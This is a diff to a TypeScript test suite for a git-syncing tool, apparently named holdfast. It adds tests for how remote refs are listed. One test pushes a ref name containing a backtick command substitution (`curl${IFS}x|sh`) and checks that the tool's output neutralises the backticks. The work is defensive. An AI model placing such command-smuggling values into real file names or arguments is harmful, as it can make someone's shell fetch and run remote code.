@@ -275,6 +275,41 @@ describe('a ref that is not a run', () => {
     expect(hub.git('for-each-ref', 'refs/holdfast')).toContain(`${ref}\n`);
   });
 
+  it('but lies below the name of a run is no command that holdfast proposes', () => {
+    const { hub, a, ref } = unsent();
+    const below = `${ref}/\`curl\${IFS}x|sh\``;
+    hub.clone('b').git('push', '-q', 'origin', `HEAD:${below}`);
+    for (const words of [['sync'], ['sync', 'status']]) {
+      const printed = ok(a.run(words));
+      expect(printed).toContain(`origin has "${below.replaceAll('`', "'")}"`);
+      expect(printed).not.toContain('`curl');
+    }
+  });
+
+  it('and so are runs that are new here', () => {
+    const { hub, a, ref, runId } = unsent();
+    ok(a.run(['sync']));
+    const b = hub.clone('b');
+    b.git('fetch', '-q', 'origin', ref);
+    b.git('checkout', '-q', 'FETCH_HEAD');
+    const path = join(b.root, 'state.json');
+    const text = readFileSync(path, 'utf8');
+    for (let at = 0; at < 12; at += 1) {
+      writeFileSync(path, text.replaceAll(runId, `foreign-${at}`));
+      b.git('commit', '-qam', 'in_progress');
+      b.git(
+        'push',
+        '-q',
+        'origin',
+        `HEAD:${ref.replace(runId, `foreign-${at}`)}`,
+      );
+    }
+    const printed = ok(a.run(['sync']));
+    expect(printed).toContain('12 new here');
+    expect(printed.match(/^ +foreign-\d+:/gm)).toHaveLength(10);
+    expect(printed).toContain('and 2 more');
+  });
+
   it.each<[what: string, file: string, edit: (text: string) => string]>([
     [
       'format',
